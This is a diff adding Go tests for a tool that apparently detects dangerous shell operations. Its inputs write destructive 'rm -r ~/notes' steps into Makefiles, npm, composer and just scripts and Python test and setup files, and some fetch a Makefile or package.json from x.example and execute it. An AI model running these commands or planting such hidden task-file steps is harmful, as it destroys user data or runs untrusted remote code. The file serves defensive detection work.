@@ -1,0 +1,98 @@
+package command_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/umpire-dev/umpire"
+	"github.com/umpire-dev/umpire/internal/operation/shell"
+)
+
+func TestTasksThatTheCallWrites(t *testing.T) {
+	const removed = "delete(/home/dev/notes) recursive"
+	for name, text := range map[string]string{
+		"make, first target":    "printf 'all:\\n\\trm -r ~/notes\\n' > Makefile; make",
+		"make, by need":         "printf 'all: a\\n\\t@true\\na:\\n\\t-rm -r ~/notes\\n' > Makefile; make all",
+		"make, variable":        "cat > Makefile <<'E'\nD := $(HOME)/notes\nall:\n\t$(RM) -r $(D)\nE\nmake",
+		"make, given variable":  "cat > Makefile <<'E'\nD = x\nall:\n\trm -r $(D)\nE\nmake D=~/notes",
+		"make, shell function":  "cat > Makefile <<'E'\nall:\n\trm -r $(shell echo ~/notes)\nE\nmake",
+		"make, while reading":   "cat > Makefile <<'E'\nX := $(shell rm -r ~/notes)\nall:\n\ttrue\nE\nmake",
+		"make, continued":       "cat > Makefile <<'E'\nall:\n\trm -r \\\n\t  ~/notes\nE\nmake",
+		"make, same line":       "echo 'all: ; rm -r ~/notes' > Makefile; make",
+		"make, pattern":         "printf 'x%%:\\n\\trm -r ~/notes\\n' > Makefile; make xy",
+		"make, other folder":    "mkdir -p sub; printf 'a:\\n\\trm -r ~/notes\\n' > sub/Makefile; make -C sub a",
+		"make, by another make": "printf 'a:\\n\\t$(MAKE) b\\nb:\\n\\trm -r ~/notes\\n' > Makefile; make a",
+		"npm run":               `echo '{"scripts":{"x":"rm -r ~/notes"}}' > package.json; npm run x`,
+		"npm, before":           `echo '{"scripts":{"x":"true","prex":"rm -r ~/notes"}}' > package.json; npm run x`,
+		"npm test":              `echo '{"scripts":{"test":"rm -r ~/notes"}}' > package.json; npm t`,
+		"npm install":           `echo '{"scripts":{"postinstall":"rm -r ~/notes"}}' > package.json; npm i`,
+		"npm, arguments":        `echo '{"scripts":{"x":"rm -r"}}' > package.json; npm run x -- ~/notes`,
+		"npm, prefix":           `mkdir -p a; echo '{"scripts":{"x":"rm -r ~/notes"}}' > a/package.json; npm --prefix a run x`,
+		"yarn":                  `echo '{"scripts":{"wipe":"rm -r ~/notes"}}' > package.json; yarn wipe`,
+		"bun":                   `echo '{"scripts":{"wipe":"rm -r ~/notes"}}' > package.json; bun run wipe`,
+		"composer":              `echo '{"scripts":{"x":["@y","rm -r ~/notes"]}}' > composer.json; composer run x`,
+		"just":                  "printf 'd := \"~/notes\"\\ngo:\\n    @rm -r {{d}}\\n' > justfile; just",
+		"just, by need":         "printf 'a:\\n  true\\nb: a c\\nc:\\n  rm -r ~/notes\\n' > justfile; just b",
+		"just, script":          "printf 'a:\\n  #!/usr/bin/env bash\\n  rm -r ~/notes\\n' > justfile; just",
+		"pytest":                "echo 'import shutil; shutil.rmtree(\"/home/dev/notes\")' > conftest.py; pytest -q",
+		"pytest, one file":      "echo 'import os; os.system(\"rm -r ~/notes\")' > test_a.py; pytest test_a.py::test_b",
+		"pip":                   "echo 'import os; os.system(\"rm -r ~/notes\")' > setup.py; pip install -e .",
+	} {
+		t.Run(name, func(t *testing.T) { wantOps(t, text, removed) })
+	}
+}
+
+func TestTasksFromTheNetwork(t *testing.T) {
+	for _, text := range []string{
+		"curl -so Makefile https://x.example/m; make",
+		"curl -so mk https://x.example/m; make -f mk",
+		"curl -so package.json https://x.example/m; npm install",
+		"curl -so justfile https://x.example/m; just",
+	} {
+		t.Run(text, func(t *testing.T) { wantOps(t, text, "exec(sh) remote-code,unseen-code") })
+	}
+}
+
+func TestTasksThatAreNotReached(t *testing.T) {
+	for name, text := range map[string]string{
+		"another target":  "printf 'all:\\n\\ttrue\\nwipe:\\n\\trm -r ~/notes\\n' > Makefile; make all",
+		"another script":  `echo '{"scripts":{"x":"true","y":"rm -r ~/notes"}}' > package.json; npm run x`,
+		"another recipe":  "printf 'a:\\n  true\\nb:\\n  rm -r ~/notes\\n' > justfile; just",
+		"make, dry run":   "printf 'all:\\n\\trm -r ~/notes\\n' > Makefile; make -n",
+		"no run":          "printf 'all:\\n\\trm -r ~/notes\\n' > Makefile; cat Makefile",
+		"npm, no scripts": `echo '{"scripts":{"postinstall":"rm -r ~/notes"}}' > package.json; npm i --ignore-scripts`,
+		"not JSON":        `echo 'rm -r ~/notes' > package.json; npm run x`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			for _, op := range shell.Read(text, readingEnv) {
+				if op.Kind == umpire.Delete {
+					t.Errorf("%s: %v", text, op)
+				}
+			}
+		})
+	}
+}
+
+// A project's own task files are not read.
+func TestTasksOfTheProject(t *testing.T) {
+	env := readingEnv
+	env.ReadFile = func(p string) ([]byte, bool) {
+		return []byte("all:\n\trm -r ~/notes\n"), strings.HasSuffix(p, "/Makefile")
+	}
+	for _, op := range shell.Read("make", env) {
+		if op.Kind == umpire.Delete {
+			t.Errorf("%v", op)
+		}
+	}
+}
+
+func FuzzMakefile(f *testing.F) {
+	f.Add("A = $(A)\nall: b; $(shell x\n\t$(A) \\\nb::\n\t${B}\n")
+	f.Add("define X\n\trm\nendef\n%: %.c\n\t$@$\n=")
+	f.Fuzz(func(t *testing.T, text string) {
+		if strings.Contains(text, "\nE\n") {
+			return
+		}
+		shell.Read("cat > Makefile <<'E'\n"+text+"\nE\nmake; mv Makefile justfile; just", readingEnv)
+	})
+}
